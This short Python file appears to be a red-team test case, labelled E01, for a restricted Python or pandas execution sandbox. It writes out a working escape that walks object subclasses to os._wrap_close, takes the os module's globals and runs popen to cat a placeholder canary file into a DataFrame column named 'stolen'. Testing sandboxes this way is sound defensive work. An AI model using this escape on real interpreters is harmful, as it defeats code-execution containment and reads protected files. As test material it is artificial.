# technique: ().__class__.__base__.__subclasses__() -> os._wrap_close -> __init__.__globals__ is the os module's namespace -> popen("cat <canary>")
# goal: exec
# redteam: E01
import pandas as pd

wrap_close = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "_wrap_close"][0]
os_namespace = wrap_close.__init__.__globals__
stolen = os_namespace["popen"]("cat {{CANARY_FILE}}").read()
if not stolen:
    raise RuntimeError("the command printed nothing")
df = pd.DataFrame({"stolen": [stolen]})
